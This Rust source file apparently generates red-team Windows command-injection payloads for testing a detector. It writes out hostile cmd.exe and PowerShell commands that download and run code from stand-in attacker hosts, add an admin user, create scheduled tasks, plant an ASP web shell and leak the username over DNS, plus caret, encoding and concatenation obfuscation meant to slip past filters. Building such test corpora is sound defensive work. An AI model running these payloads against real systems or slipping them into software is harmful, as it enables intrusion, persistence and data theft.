//! Red-team Windows command injection, written apart from the detectors (held out in
//! spirit): a separator (`&`, `&&`, `|`, `||`, a line break) × a cmd.exe or PowerShell
//! command (recon, file read, time probe, download-and-run, LOLBins) × obfuscation (carets,
//! empty quotes, `%VAR:~n,m%` slicing, `%COMSPEC%`, delayed expansion, PowerShell `-enc`,
//! string concatenation, backtick escapes, `-f` format strings, `[char]` codes, random case)
//! × a transport layer.

use crate::mutate::base64;
use crate::mutate::{join, random_case, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct RedteamCmdiWindows;

const HOSTS: &[&str] = &["10.0.0.5", "198.51.100.23", "attacker.example", "203.0.113.9"];
const PREFIXES: &[&str] = &["", "127.0.0.1", "report.docx", "1", "test", "C:\\temp\\a.txt", "localhost"];

fn cmd_command(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    let host = *rng.pick(HOSTS);
    match rng.below(22) {
        0 => "whoami".into(),
        1 => rng.pick(&["whoami /priv", "whoami /all", "hostname"]).to_string(),
        2 => "ipconfig /all".into(),
        3 => rng.pick(&["dir c:\\", "dir C:\\Users", "dir /s /b c:\\inetpub"]).to_string(),
        4 => rng
            .pick(&[
                "type C:\\windows\\win.ini",
                "type c:\\boot.ini",
                "type C:\\inetpub\\wwwroot\\web.config",
                "type %SYSTEMROOT%\\system32\\drivers\\etc\\hosts",
            ])
            .to_string(),
        5 => rng.pick(&["net user", "net localgroup administrators", "net user hacker P@ss123 /add"]).to_string(),
        6 => "systeminfo".into(),
        7 => rng.pick(&["tasklist", "tasklist /v", "netstat -ano"]).to_string(),
        8 => {
            names.push("time-probe");
            format!("ping -n {} 127.0.0.1", rng.range(5, 20))
        }
        9 => {
            names.push("time-probe");
            format!("timeout /t {}", rng.range(3, 15))
        }
        10 => format!("certutil -urlcache -split -f http://{host}/a.exe %TEMP%\\a.exe"),
        11 => format!("bitsadmin /transfer j /download /priority high http://{host}/a.exe C:\\Users\\Public\\a.exe"),
        12 => format!("regsvr32 /s /n /u /i:http://{host}/x.sct scrobj.dll"),
        13 => format!("mshta http://{host}/x.hta"),
        14 => "wmic process call create \"calc.exe\"".into(),
        15 => "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run".into(),
        16 => "schtasks /create /sc minute /tn up /tr C:\\Users\\Public\\a.exe".into(),
        17 => "echo ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp".into(),
        18 => format!("nslookup %USERNAME%.{host}"),
        19 => "FOR /F \"tokens=*\" %i IN ('whoami') DO @echo %i".into(),
        20 => {
            format!("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://{host}/x\")")
        }
        _ => "set".into(),
    }
}

fn powershell(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    names.push("powershell");
    let host = *rng.pick(HOSTS);
    let exe =
        *rng.pick(&["powershell", "powershell.exe", "pwsh", "PowerShell -nop -w hidden", "powershell -NoP -NonI -W Hidden -Exec Bypass"]);
    match rng.below(9) {
        0 => format!("{exe} -c \"IEX(New-Object Net.WebClient).DownloadString('http://{host}/a.ps1')\""),
        1 => {
            names.push("ps-enc");
            // UTF-16LE base64 of a short command.
            let command = rng.pick(&["whoami", "Get-Process", "iex(iwr http://10.0.0.5/a)"]).to_string();
            let wide: Vec<u8> = command.bytes().flat_map(|b| [b, 0]).collect();
            format!("{exe} {} {}", rng.pick(&["-enc", "-e", "-EncodedCommand", "-ec", "-en"]), base64(&wide))
        }
        2 => format!("{exe} Invoke-WebRequest -Uri http://{host}/a.exe -OutFile $env:TEMP\\a.exe"),
        3 => format!("{exe} -c \"iwr http://{host}/a.ps1|iex\""),
        4 => {
            names.push("ps-concat");
            format!("{exe} -c \"&('i'+'ex') ('who'+'ami')\"")
        }
        5 => {
            names.push("ps-backtick");
            format!("{exe} -c \"I`nv`oke-Ex`pre`ssion('whoami')\"")
        }
        6 => {
            names.push("ps-format");
            format!("{exe} -c \".(\\\"{{1}}{{0}}\\\" -f 'x','ie') 'Get-ChildItem C:\\'\"")
        }
        7 => {
            names.push("ps-char");
            format!("{exe} -c \"iex ([char]119+[char]104+[char]111+[char]97+[char]109+[char]105)\"")
        }
        _ => format!("{exe} Start-Process calc; Get-WmiObject Win32_Process | Select Name"),
    }
}

/// Obfuscates with one cmd.exe technique (or none).
fn obfuscate_cmd(rng: &mut Rng, cmd: &str, names: &mut Vec<&'static str>) -> String {
    match rng.below(9) {
        0..=2 => cmd.to_string(),
        3 => {
            names.push("caret");
            caret_words(rng, cmd)
        }
        4 => {
            names.push("empty-quotes");
            let first_end = cmd.find(' ').unwrap_or(cmd.len());
            let (head, tail) = cmd.split_at(first_end);
            let mut out = String::new();
            for (i, c) in head.chars().enumerate() {
                if i > 0 && rng.chance(0.5) {
                    out.push_str("\"\"");
                }
                out.push(c);
            }
            out + tail
        }
        5 => {
            names.push("comspec");
            format!(
                "{} /c {cmd}",
                rng.pick(&["%COMSPEC%", "cmd", "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "%SystemRoot%\\system32\\cmd.exe", "c^m^d"])
            )
        }
        6 => {
            names.push("var-slice");
            // %COMSPEC% is C:\Windows\system32\cmd.exe: ~-7,3 is "cmd".
            format!("%COMSPEC:~-7,3% /c {cmd}")
        }
        7 => {
            names.push("delayed-expansion");
            let first_end = cmd.find(' ').unwrap_or(cmd.len());
            let (head, tail) = cmd.split_at(first_end);
            let cut = head.len() / 2;
            format!("cmd /v:on /c \"set a={}&&set b={}&&call !a!!b!{tail}\"", &head[..cut], &head[cut..])
        }
        _ => {
            names.push("case");
            random_case(rng, cmd)
        }
    }
}

fn caret_words(rng: &mut Rng, cmd: &str) -> String {
    let mut out = String::new();
    for (i, c) in cmd.chars().enumerate() {
        if i > 0 && c.is_ascii_alphabetic() && rng.chance(0.4) {
            out.push('^');
        }
        out.push(c);
    }
    out
}

impl Family for RedteamCmdiWindows {
    fn name(&self) -> &'static str {
        "redteam-cmdi-windows"
    }

    fn detector(&self) -> &'static str {
        "command-injection"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names = Vec::new();
        let cmd = if rng.chance(0.3) {
            powershell(rng, &mut names)
        } else {
            let raw = cmd_command(rng, &mut names);
            obfuscate_cmd(rng, &raw, &mut names)
        };
        let prefix = *rng.pick(PREFIXES);
        let text = match rng.below(8) {
            0 | 1 => format!("{prefix}&{cmd}"),
            2 => format!("{prefix}&&{cmd}"),
            3 => format!("{prefix}|{cmd}"),
            4 => format!("{prefix}||{cmd}"),
            5 => {
                names.push("newline");
                format!("{prefix}{}{cmd}", rng.pick(&["\r\n", "\n", "%0a", "%0d%0a"]))
            }
            6 => {
                names.push("quote-breakout");
                format!("{prefix}\" & {cmd} & \"")
            }
            _ => format!("{prefix} & {cmd}"),
        };
        let (payload, layer) = transport_layer(rng, &text);
        names.push(layer);
        Variant { family: self.name(), mutation: join(&names), payload, carrier: Carrier::Value }
    }
}
